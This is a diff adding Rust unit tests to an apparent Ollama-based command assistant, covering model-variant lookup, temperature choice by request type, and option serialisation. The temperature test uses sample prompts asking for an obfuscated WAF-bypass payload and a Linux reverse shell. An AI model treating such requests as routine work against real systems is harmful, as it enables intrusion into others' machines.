+        // Fall back to the base tag, then to any variant
+        assert_eq!(find_model_variant("llama3:8b", "q6_K", &installed).as_deref(), Some("llama3:8b"));
+        assert_eq!(find_model_variant("gemma3:12b", "q4_0", &installed).as_deref(), Some("gemma3:12b-it-fp16"));
+        assert_eq!(find_model_variant("mistral", "q4_0", &installed), None);
+    }
+    
+    #[test]
+    fn test_suggest_temperature() {
+        // Factual requests get a low temperature
+        assert!(suggest_temperature("list all files in the current directory") <= 0.3);
+        assert!(suggest_temperature("Show the kernel version") <= 0.3);
+        
+        // Creative requests get a high temperature
+        assert!(suggest_temperature("craft an obfuscated payload to bypass the WAF") >= 0.8);
+        assert!(suggest_temperature("Generate a reverse shell for a Linux target") >= 0.8);
+        
+        // Everything else uses the default
+        assert_eq!(suggest_temperature("scan the local network"), DEFAULT_TEMPERATURE);
+    }
+    
+    #[test]
+    fn test_set_temperature_disables_adaptive() {
+        let mut client = OllamaClient::new().unwrap();
+        // Left to the model unless adaptive temperature is turned on
+        assert_eq!(client.temperature_for("list files"), None);
+        client.set_adaptive_temperature(true);
+        assert_eq!(client.temperature_for("list files"), Some(FACTUAL_TEMPERATURE));
+        
+        client.set_temperature(0.6);
+        assert_eq!(client.temperature_for("list files"), Some(0.6));
+    }
+    
+    #[test]
+    fn test_options_omit_unset_temperature() {
+        let options = OllamaOptions {
+            temperature: None,
+            top_p: None,
+            top_k: None,
+            max_tokens: Some(256),
+            stop: None,
+            seed: None,
+            num_ctx: None,
+        };
+        assert_eq!(serde_json::to_string(&options).unwrap(), r#"{"num_predict":256}"#);
+        
+        let options = OllamaOptions { temperature: Some(0.5), ..options };
+        assert_eq!(serde_json::to_string(&options).unwrap(), r#"{"temperature":0.5,"num_predict":256}"#);
     }
 }
 